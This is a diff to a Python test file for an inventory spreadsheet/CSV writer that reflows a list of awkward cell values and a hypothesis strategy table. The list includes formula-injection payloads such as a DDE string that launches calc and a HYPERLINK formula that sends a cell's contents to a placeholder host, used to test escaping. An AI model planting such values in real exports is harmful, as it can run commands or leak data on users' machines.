@@ -30,9 +30,12 @@ from inventory.exchange.writer import SUFFIXES, write_table
 KEYS = [field.key for field in ASSET_FIELDS]
 HEADINGS = [asset_heading(field.key, field.label) for field in ASSET_FIELDS]
 NASTY = [
-    "=1+1", "=cmd|' /C calc'!A0", "+48 601 000 000", "-5 szt.", "@SUM(A1)", '=HYPERLINK("http://x/?"&A1,"ok")', "＝1+1", "'=already", "'t Hooft", "%0A=1",
-    "|calc", "{=1}", "http://x", "00123", "1-2", "3E5", "12345678901234567890", "TRUE", "_x0041_", "_x005F_x0041_", "a;b", 'Laptop 14" "x"', "a,b", "<b>&amp;</b>",
-    "1.234", "31.02.2019", "#REF!", "sep=;", "Razem", "\\N", "NULL", "None", "－1", "ąćęłńóśźż", "🖨 drukarka", "0", "''", "'", '"',
+    "=1+1", "=cmd|' /C calc'!A0", "+48 601 000 000", "-5 szt.", "@SUM(A1)", '=HYPERLINK("http://x/?"&A1,"ok")',
+    "＝1+1", "'=already", "'t Hooft", "%0A=1",
+    "|calc", "{=1}", "http://x", "00123", "1-2", "3E5", "12345678901234567890", "TRUE", "_x0041_",
+    "_x005F_x0041_", "a;b", 'Laptop 14" "x"', "a,b", "<b>&amp;</b>",
+    "1.234", "31.02.2019", "#REF!", "sep=;", "Razem", "\\N", "NULL", "None", "－1", "ąćęłńóśźż", "🖨 drukarka",
+    "0", "''", "'", '"',
 ]  # fmt: skip
 
 
@@ -66,7 +69,8 @@ days = st.dates(min_value=date(1900, 1, 1), max_value=date(2150, 1, 1))
 money = st.integers(0, 10**11)
 numbers = st.from_regex(r"[A-Z0-9/.-]{1,32}", fullmatch=True)
 BY_KIND = {
-    Kind.NOTES: notes, Kind.DATE: days, Kind.MONEY: money, Kind.VAT: st.sampled_from(["23", "8", "5", "0", "zw", "np"]), Kind.COUNT: st.just(1),
+    Kind.NOTES: notes, Kind.DATE: days, Kind.MONEY: money,
+    Kind.VAT: st.sampled_from(["23", "8", "5", "0", "zw", "np"]), Kind.COUNT: st.just(1),
     Kind.STATUS: st.sampled_from(list(ASSET_STATUSES)), Kind.ASSET: numbers,
     Kind.NUMBERS: st.lists(st.from_regex(r"[A-Za-z0-9=+'/-]{1,20}", fullmatch=True), min_size=1, max_size=3).map(tuple),
 }  # fmt: skip
